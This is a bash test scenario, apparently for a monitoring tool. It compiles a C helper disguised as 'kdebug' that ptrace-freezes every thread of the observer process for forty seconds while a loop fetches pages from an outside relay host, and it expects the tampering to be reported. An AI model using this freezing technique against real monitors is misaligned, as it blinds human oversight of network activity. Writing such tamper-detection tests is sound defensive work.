#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=tamper half=report tool=gcc,wget seconds=60 parts=dns,outside-web before=yes
# A small program takes hold of each thread of the observer's by ptrace for forty seconds, in which pages are fetched outside, and lets go.
if [ "$1" = before ]; then
	cat >"$LAB/h.c" <<'END'
#include <dirent.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/ptrace.h>
#include <sys/wait.h>
#include <unistd.h>
int main(int argc, char **argv)
{
	char name[64];
	int held[64], n = 0;
	struct dirent *e;
	DIR *d;
	(void)argc;
	snprintf(name, sizeof(name), "/proc/%s/task", argv[1]);
	d = opendir(name);
	while (d && (e = readdir(d)) && n < 64) {
		int t = atoi(e->d_name);
		if (t > 0 && !ptrace(PTRACE_SEIZE, t, 0, 0) && !ptrace(PTRACE_INTERRUPT, t, 0, 0) && waitpid(t, NULL, __WALL) == t)
			held[n++] = t;
	}
	sleep(40);
	for (int i = 0; i < n; i++)
		ptrace(PTRACE_DETACH, held[i], 0, 0);
	return n ? 0 : 1;
}
END
	exec gcc -O1 -o "$LAB/kdebug" "$LAB/h.c"
fi
watch=$(pgrep -o -f "record --config $LAB/site.yaml")
(while sleep 0.5; do wget -q -O /dev/null http://relay.example.net/version; done) & busy=$!
sleep 3; "$LAB/kdebug" "$watch"; held=$?; sleep 5; kill $busy; wait $busy; [ $held = 0 ]
